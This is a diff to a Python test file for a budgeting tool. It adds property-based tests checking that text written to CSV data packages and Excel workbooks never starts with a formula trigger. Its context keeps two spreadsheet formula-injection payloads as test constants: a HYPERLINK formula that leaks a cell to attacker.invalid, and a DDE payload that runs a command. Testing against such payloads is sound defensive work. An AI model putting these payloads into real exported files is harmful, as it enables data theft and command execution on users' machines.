@@ -21,6 +21,7 @@ from rbb.services.datapackage import write_datapackage
 from rbb.services.driver_files import read_drivers, write_drivers
 from tests.conftest import BUDGET_SEED, PERFORMANCE_SEED, imported
 from tests.costing.conftest import _unmik
+from tests.storage.test_document_store import budget_2025_26
 
 LINK = '=HYPERLINK("http://attacker.invalid/?leak="&A2,"Details")'
 CALC = "=cmd|' /C calc'!A0"
@@ -148,3 +149,42 @@ def test_no_exported_text_cell_starts_with_a_formula_trigger(texts: list[str]) -
     _assert_no_formula(rows)
     # The value column is a number and is written as one.
     assert [row[4] for row in rows[1:]] == ["-1.5"] * len(texts)
+
+
+# Any text but what XML 1.0 cannot hold (openpyxl refuses control characters).
+_XML_TEXT = st.text(st.characters(blacklist_categories=("Cs",),
+                                  blacklist_characters=[chr(c) for c in range(32)
+                                                        if chr(c) not in "\t\n\r"]))
+
+
+@settings(max_examples=25, suppress_health_check=[HealthCheck.too_slow,
+                                                  HealthCheck.function_scoped_fixture],
+          deadline=None)
+@given(title=st.text(min_size=1), text=st.text(min_size=1))
+def test_no_data_package_text_cell_starts_with_a_formula_trigger(
+        tmp_path_factory: Any, title: str, text: str) -> None:
+    document = budget_2025_26().model_copy(update={"title": title, "symbol": None})
+    folder = tmp_path_factory.mktemp("package")
+    write_datapackage([document, document.model_copy(update={"title": text})], folder)
+    for path in folder.glob("*.csv"):
+        with path.open(encoding="utf-8", newline="") as handle:
+            _assert_no_formula(list(csv.reader(handle)))
+
+
+@settings(max_examples=20, suppress_health_check=[HealthCheck.too_slow,
+                                                  HealthCheck.function_scoped_fixture],
+          deadline=None)
+@given(note=_XML_TEXT)
+def test_every_workbook_note_reads_back_as_written(tmp_path_factory: Any, note: str) -> None:
+    drivers = _unmik().calibrated
+    post = drivers.posts[0]
+    changed = drivers.model_copy(update={"posts": (post.model_copy(update={
+        "provenance": post.provenance.model_copy(update={"note": note})}),
+        *drivers.posts[1:])})
+    path = write_drivers(changed, tmp_path_factory.mktemp("drivers") / "drivers.xlsx")
+    cells = [c for sheet in load_workbook(path).worksheets for row in sheet.iter_rows()
+             for c in row if isinstance(c.value, str)]
+    assert all(c.data_type == "s" for c in cells)
+    _assert_no_formula([[c.value for c in cells]])
+    # Reading strips surrounding white space and reads an empty cell as no note.
+    assert read_drivers(path).posts[0].provenance.note == (note.strip() or None)
